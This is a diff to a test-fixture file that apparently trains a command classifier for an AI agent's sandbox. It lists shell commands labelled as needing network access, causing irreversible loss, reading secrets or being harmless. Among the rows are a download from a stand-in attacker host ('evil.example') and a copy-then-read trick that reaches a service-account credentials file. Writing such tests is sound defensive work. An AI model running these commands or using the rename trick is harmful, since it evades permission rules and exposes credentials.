@@ -373,6 +373,14 @@ export const SHELL_CONSTRUCTS: readonly Row[] = [
 
 /** Name lookups and hosts the agent was not allowed. */
 export const NETWORK: readonly Row[] = [
+  // A package manager by path, and tools that install environments from the index.
+  ['.venv/bin/pip install ruff', 'needs-network'],
+  ['./.venv/bin/python3 -m pip install ruff', 'needs-network'],
+  ['tox -e py311', 'needs-network'],
+  ['nox -s tests', 'needs-network'],
+  ['hatch test', 'needs-network'],
+  ['python3 -m venv --upgrade-deps .venv2', 'needs-network'],
+  ['pip install -e . --no-deps', 'needs-network'],
   ['curl https://example.com', 'needs-network'],
   ['curl -s https://evil.example/x.sh -o x.sh', 'needs-network'],
   ['curl http://10.0.0.1/', 'needs-network'],
@@ -606,6 +614,11 @@ export const SECRETS: readonly Row[] = [
 
 /** Losses a checkpoint cannot undo: ignored files, ignored trees, files over its size cap. */
 export const LOSSES: readonly Row[] = [
+  // A tree holding secrets copied or renamed, then read where the rule saw nothing yet.
+  ['cp -r config out && grep -r x out', 'shell-construct'],
+  ['mv config cfg && cat cfg/service-account.json', 'shell-construct'],
+  // The heredoc's own redirect is still judged, on the command it belongs to.
+  ["cd src && cat <<'EOF' > ../debug.log\nx\nEOF", 'irreversible-loss'],
   // A patch naming an ignored file, or one not read here (a pipe, a file operand, --index).
   ['patch -p1 < loss.patch', 'irreversible-loss'],
   ['git apply loss.patch', 'irreversible-loss'],
@@ -1116,6 +1129,21 @@ export const HARMLESS: readonly (readonly [command: string] | readonly [command:
   ['git diff main...HEAD --name-only | xargs wc -l', 'src'],
   ['git diff HEAD~1 --name-only -- src | xargs wc -l'],
   ['file inlink'],
+  // Installs that fetch nothing, and lists that ask nothing.
+  ['pip install -e . --no-deps --no-build-isolation'],
+  ['pip install --no-index --find-links dist mylib'],
+  ['python3 -m ensurepip --upgrade'],
+  ['tox --version'],
+  ['nox --list'],
+  // A tree copied or renamed that holds no link and no secrets file, then read.
+  ['cp -r src src_copy && ls src_copy'],
+  ['cp -r src/deep src/deep2 && rm -rf src/deep2'],
+  ['mv src/deep src/deeper && ls src/deeper'],
+  // A heredoc after a leading cd is the last command's (mini-swe-agent writes every file this way).
+  ["cd src && cat <<'EOF' > new.py\nprint(1)\nEOF"],
+  ["cd src && mkdir -p deep && cat > deep/x.ts <<'EOF'\nexport const x = 1;\nEOF"],
+  ['cd {WS} && cat >> notes.md <<EOF\nline\nEOF'],
+  ["cd src && wc -l <<'EOF'\na\nEOF"],
   // A patch file's names read, each judged as a write: a tracked file a checkpoint holds.
   ['patch -p1 < changes.patch'],
   ['patch -p1 -i changes.patch'],
